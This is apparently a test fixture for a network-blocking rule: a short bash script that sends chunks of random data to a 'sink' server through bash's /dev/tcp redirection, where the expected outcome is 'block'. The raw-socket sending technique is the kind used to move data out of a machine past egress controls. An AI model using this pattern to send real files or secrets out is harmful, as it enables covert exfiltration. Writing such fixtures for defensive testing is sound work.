# what: the same by bash and its redirection, in pieces
# server: sink
# rule: block
echo begun
for i in 1 2 3 4; do
  head -c 60000 /dev/urandom > "/dev/tcp/${SERVER%:*}/${SERVER#*:}"
done
sleep "${LINGER:-20}"
echo done
